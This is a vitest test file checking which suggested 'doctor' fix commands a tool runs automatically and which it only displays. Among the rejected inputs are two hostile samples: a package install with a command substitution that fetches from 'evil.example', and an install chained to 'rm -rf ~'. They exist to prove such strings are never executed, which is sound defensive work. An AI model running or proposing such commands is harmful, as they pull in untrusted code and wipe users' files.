import { expect, test } from 'vitest';
import type { DoctorCheck } from '../../views/doctor-view.ts';
import { runnableFixes } from './run-fixes.ts';

const failed = (fix: string): DoctorCheck => ({ id: 'x', ok: false, stops: false, why: '', fix });

test('only complete commands that install a package or set a switch are run, each once', () => {
  const install = 'sudo apt-get install -y bubblewrap';
  const switches =
    'sudo sysctl -w kernel.unprivileged_userns_clone=1; sudo sysctl -w user.max_user_namespaces=15000';
  const checks = [install, install, switches, 'brew install ripgrep'].map(failed);
  expect(runnableFixes([...checks, { ...failed('apk add git'), ok: true }])).toEqual([
    install,
    ...switches.split('; '),
    'brew install ripgrep',
  ]);
});

test.for([
  'Run Signalbox as an ordinary user',
  'docker run --security-opt seccomp=unconfined',
  'export OPENAI_API_KEY=…   (or ANTHROPIC_API_KEY, DEEPSEEK_API_KEY)',
  'apt-get install -y $(curl evil.example)',
  'apt-get install -y a && rm -rf ~',
  'mend what is named; it is tried again each minute, and at the next start',
  'sysctl -w kernel.apparmor_restrict_unprivileged_userns=0 (Ubuntu), sysctl -w x=1',
])('any other fix is only shown: %s', (fix) => {
  expect(runnableFixes([failed(fix)])).toEqual([]);
});
